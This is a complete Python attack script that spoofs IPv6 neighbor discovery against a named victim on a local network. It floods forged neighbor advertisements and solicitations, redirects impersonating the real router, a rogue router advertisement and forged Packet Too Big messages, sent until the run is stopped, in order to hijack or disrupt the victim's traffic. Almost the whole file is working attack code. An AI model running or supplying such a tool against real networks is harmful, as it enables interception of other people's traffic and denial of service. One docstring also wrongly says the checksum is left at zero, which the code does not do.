#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""discovery_spoof.py INTERFACE VICTIM_IP VICTIM_MAC CLAIMED_IP CLAIMED_MAC PEER_IP: tells the
victim some 2,000 times a second, by advertisements to it and to all, by questions and by redirects,
that the claimed address is here, until it is ended; that here is a router, and that the victim's
packets to the peer are too big. Redirects and the latter come from the claimed router itself."""

import socket
import struct
import sys

from arp import send_until_ended

HERE = bytes([2, 0x66, 0x66, 0x66, 0x66, 0x66])


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return 0xffff - total


def icmp(to_mac, from_mac, source, destination, body):
    """A frame of that ICMPv6 message, whose checksum is still 0, with hop limit 255."""
    pseudo = source + destination + struct.pack(">II", len(body), 58)
    body = body[:2] + struct.pack(">H", checksum(pseudo + body)) + body[4:]
    header = bytes.fromhex("60000000") + struct.pack(">HBB", len(body), 58, 255)
    return to_mac + from_mac + b"\x86\xdd" + header + source + destination + body


def main():
    interface, victim_ip, victim_mac, claimed_ip, claimed_mac, peer_ip = sys.argv[1:7]
    victim, claimed, peer = (socket.inet_pton(socket.AF_INET6, ip)
                             for ip in (victim_ip, claimed_ip, peer_ip))
    there, router = (bytes.fromhex(mac.replace(":", "")) for mac in (victim_mac, claimed_mac))
    all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")

    def advertisement(flags):
        return struct.pack(">BBHI", 136, 0, 0, flags << 24) + claimed + bytes([2, 1]) + HERE

    question = struct.pack(">BBHI", 135, 0, 0, 0) + victim + bytes([1, 1]) + HERE
    redirect = struct.pack(">BBHI", 137, 0, 0, 0) + claimed + claimed + bytes([2, 1]) + HERE
    # RFC 4861 section 4.2: this router for half an hour, at this MAC address, with an MTU of 1280.
    router_here = (struct.pack(">BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + bytes([1, 1]) + HERE +
                   struct.pack(">BBHI", 5, 1, 0, 1280))
    local = socket.inet_pton(socket.AF_INET6, "fe80::66")
    datagram = (bytes.fromhex("60000000") + struct.pack(">HBB", 1460, 17, 64) + victim + peer +
                struct.pack(">HHHH", 18515, 18515, 1460, 0))
    too_big = struct.pack(">BBHI", 2, 0, 0, 1280) + datagram
    frames = [icmp(there, HERE, claimed, victim, advertisement(0xe0)),
              icmp(there, HERE, claimed, victim, advertisement(0x20)),
              icmp(bytes.fromhex("333300000001"), HERE, claimed, all_nodes, advertisement(0xa0)),
              icmp(there, HERE, claimed, victim, question),
              icmp(there, router, claimed, victim, redirect),
              icmp(bytes.fromhex("333300000001"), HERE, local, all_nodes, router_here),
              icmp(there, router, claimed, victim, too_big)]
    send_until_ended(interface, 3 * frames)


if __name__ == "__main__":
    main()
